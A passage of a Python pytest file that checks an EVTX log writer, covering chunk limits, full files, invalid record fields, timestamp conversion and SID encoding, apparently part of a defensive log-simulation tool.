            yield sysmon_1(i)

    assert write_evtx(path, records()) == 2000
    assert sizes[0] > 4096 and sizes == sorted(sizes) and sizes[-1] > sizes[0]


def test_writer_context_manager_and_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.evtx"
    with EvtxWriter(path) as writer:
        assert writer.records_written == 0
    assert path.stat().st_size == 4096
    assert rust_json(path) == [] and python_evtx(path) == []
    assert write_evtx(tmp_path / "none.evtx", iter(())) == 0

    path = tmp_path / "cm.evtx"
    with EvtxWriter(path) as writer:
        for record in powershell_records(1):
            writer.write(record)
        assert writer.records_written == 3
        assert struct.unpack_from("<I", path.read_bytes(), 120)[0] == 1  # dirty while open
    assert_round_trip(path, powershell_records(1))
    with pytest.raises(ValueError, match="closed"):
        writer.write(sysmon_1(9))


def test_record_too_big_for_a_chunk_raises_and_keeps_file_valid(tmp_path: Path) -> None:
    path = tmp_path / "big.evtx"
    huge = sysmon_1(2, "x" * 33_000)  # 66 KB of UTF-16
    with pytest.raises(ValueError, match="64 KiB chunk"):
        with EvtxWriter(path) as writer:
            writer.write(sysmon_1(1))
            writer.write(huge)
    assert_round_trip(path, [sysmon_1(1)])
    # Just over the limit once the template definition is counted also raises.
    with pytest.raises(ValueError, match="64 KiB chunk"):
        write_evtx(tmp_path / "edge.evtx", [sysmon_1(1, "y" * 31_200)])


def test_a_full_file_raises_and_stays_valid(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import lotlhunt.simulate.evtx_writer as writer_module

    monkeypatch.setattr(writer_module, "MAX_CHUNKS", 2)
    path = tmp_path / "full.evtx"
    written = []
    with pytest.raises(ValueError, match="file is full"):
        with EvtxWriter(path) as writer:
            for i in range(1, 1000):
                writer.write(sysmon_1(i))
                written.append(sysmon_1(i))
    assert chunk_count(path) == 2
    assert_round_trip(path, written, python_every=7)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"record_id": 1}, "strictly increase"),
        ({"level": 256}, "out of range"),
        ({"task": -1}, "out of range"),
        ({"event_id": 1 << 32}, "too large"),
        ({"keywords": "fast"}, "hex string"),
        ({"user_sid": "S-1-x"}, "not a SID"),
        ({"provider_guid": "{not-a-guid}"}, "not a GUID"),
        ({"event_data": {"A": "nul\x00inside"}}, "U\\+0000"),
        ({"computer": "HOST\x00"}, "U\\+0000"),
        ({"event_data": {"A": "lone \ud800 surrogate"}}, "surrogate"),
    ],
)
def test_invalid_records_raise_value_error(
    tmp_path: Path, change: dict[str, Any], message: str
) -> None:
    path = tmp_path / "bad.evtx"
    with EvtxWriter(path) as writer:
        writer.write(sysmon_1(1))
        with pytest.raises(ValueError, match=message):
            writer.write(replace(sysmon_1(2), **change))
        writer.write(sysmon_1(3))
    assert [r["event_record_id"] for r in rust_json(path)] == [1, 3]


def test_non_string_event_data_raises_type_error(tmp_path: Path) -> None:
    with EvtxWriter(tmp_path / "t.evtx") as writer:
        with pytest.raises(TypeError, match="must be str"):
            writer.write(replace(sysmon_1(1), event_data={"ProcessId": 42}))  # type: ignore[dict-item]


def test_naive_timestamps_are_utc_and_sids_encode_like_nt() -> None:
    naive = datetime(2024, 1, 2, 3, 4, 5, 6)
    assert filetime(naive) == filetime(naive.replace(tzinfo=UTC))
    assert filetime(datetime(1601, 1, 1, tzinfo=UTC)) == 0
    assert filetime(datetime(1970, 1, 1, tzinfo=UTC)) == 116444736000000000
    assert sid_bytes("S-1-5-18") == bytes([1, 1, 0, 0, 0, 0, 0, 5]) + struct.pack("<I", 18)
